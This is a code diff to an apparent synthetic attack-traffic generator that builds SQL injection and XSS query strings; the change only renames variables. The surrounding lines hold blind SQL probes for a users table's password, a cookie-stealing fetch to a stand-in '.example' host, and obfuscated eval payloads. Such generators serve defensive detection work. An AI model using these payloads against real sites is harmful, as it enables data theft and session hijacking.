@@ -161,9 +161,9 @@ def _target(generator: np.random.Generator, values: pa.Array) -> pa.Array:
     it."""
     count = len(values)
     extra = join(pick(generator, _PARAMETERS, count), "=", pick(generator, _WORDS, count))
-    place = generator.random(count)
-    before = pc.if_else(pa.array(place < 0.2), join(extra, "&"), "")
-    after = pc.if_else(pa.array(place > 0.75), join("&", extra), "")
+    position = generator.random(count)
+    before = pc.if_else(pa.array(position < 0.2), join(extra, "&"), "")
+    after = pc.if_else(pa.array(position > 0.75), join("&", extra), "")
     return join(
         pick(generator, _PATHS, count), "?", before, pick(generator, _PARAMETERS, count), "=", values, after
     )
@@ -207,11 +207,11 @@ def _odd_searches(generator: np.random.Generator, count: int) -> pa.Array:
 
 def _ambiguous(generator: np.random.Generator, count: int) -> pa.Array:
     """Input of visitors, and of attackers at first; drawn in the same way for both."""
-    figure, word = number(generator, count, 1, 50_000), pick(generator, _WORDS, count)
+    digits, word = number(generator, count, 1, 50_000), pick(generator, _WORDS, count)
     ending = pick(
         generator, ["'", '"', "')", "' ", "''", "<b>", '">', "<i>x</i>", "%", "\\'", "--", "<"], count
     )
-    values = join(pc.if_else(pa.array(generator.random(count) < 0.5), figure, word), ending)
+    values = join(pc.if_else(pa.array(generator.random(count) < 0.5), digits, word), ending)
     return _target(generator, encoded(generator, values, raw=0.2, twice=0.02))
 
 
@@ -220,8 +220,8 @@ def _ambiguous(generator: np.random.Generator, count: int) -> pa.Array:
 
 def _break_out(generator: np.random.Generator, count: int) -> pa.Array:
     """A value, and the end of its string or bracket."""
-    figure, word = number(generator, count, -1, 9_999), pick(generator, [*_WORDS, *_NAMES, ""], count)
-    value = pc.if_else(pa.array(generator.random(count) < 0.6), figure, word)
+    digits, word = number(generator, count, -1, 9_999), pick(generator, [*_WORDS, *_NAMES, ""], count)
+    value = pc.if_else(pa.array(generator.random(count) < 0.6), digits, word)
     return join(value, pick(generator, ["'", "'", "'", '"', "')", "'))", "", "", ")", "%'"], count))
 
 
@@ -234,9 +234,9 @@ def _comment(generator: np.random.Generator, count: int) -> pa.Array:
 
 
 def _tautology(generator: np.random.Generator, count: int) -> pa.Array:
-    figure = number(generator, count, 1, 9_999)
+    digits = number(generator, count, 1, 9_999)
     word = pick(generator, _WORDS, count)
-    equal = join(figure, pick(generator, ["=", " = ", " like ", "<=>", ">="], count), figure)
+    equal = join(digits, pick(generator, ["=", " = ", " like ", "<=>", ">="], count), digits)
     quoted = join("'", word, "'='", word)
     always = pick(generator, ["1", "true", "not 0", "2>1", "'x'", "1 is not null"], count)
     condition = either(generator, 0.55, equal, either(generator, 0.6, quoted, always))
@@ -309,13 +309,13 @@ def _delay(generator: np.random.Generator, count: int) -> pa.Array:
 
 
 def _blind(generator: np.random.Generator, count: int) -> pa.Array:
-    place, letter = number(generator, count, 1, 40), number(generator, count, 32, 126)
+    position, letter = number(generator, count, 1, 40), number(generator, count, 32, 126)
     target = pick(
         generator, ["(select password from users limit 1)", "user()", "database()", "version()"], count
     )
-    ascii_test = join("ascii(substring(", target, ",", place, ",1))>", letter)
-    length_test = join("length(", target, ")=", place)
-    order = join("order by ", place)
+    ascii_test = join("ascii(substring(", target, ",", position, ",1))>", letter)
+    length_test = join("length(", target, ")=", position)
+    order = join("order by ", position)
     test = either(
         generator, 0.5, join("and ", ascii_test), either(generator, 0.5, join("and ", length_test), order)
     )
@@ -326,20 +326,20 @@ def _blind(generator: np.random.Generator, count: int) -> pa.Array:
 
 
 def _script_call(generator: np.random.Generator, count: int) -> pa.Array:
-    figure, word = number(generator, count, 0, 9_999), pick(generator, _WORDS, count)
+    digits, word = number(generator, count, 0, 9_999), pick(generator, _WORDS, count)
     function = pick(
         generator, ["alert", "prompt", "confirm", "console.log", "top.alert", "window['alert']"], count
     )
     argument = either(
         generator,
         0.5,
-        figure,
+        digits,
         pick(generator, ["document.domain", "document.cookie", "/xss/", "'x'", "1"], count),
     )
     brackets = join(function, "(", argument, ")")
     theft = join("fetch('//", word, ".example/'+document.cookie)")
     hidden = join("eval(atob('", hexadecimal(generator, count), "'))")
-    codes = join("eval(String.fromCharCode(97,108,", figure, "))")
+    codes = join("eval(String.fromCharCode(97,108,", digits, "))")
     return either(
         generator, 0.6, brackets, either(generator, 0.5, theft, either(generator, 0.5, hidden, codes))
     )
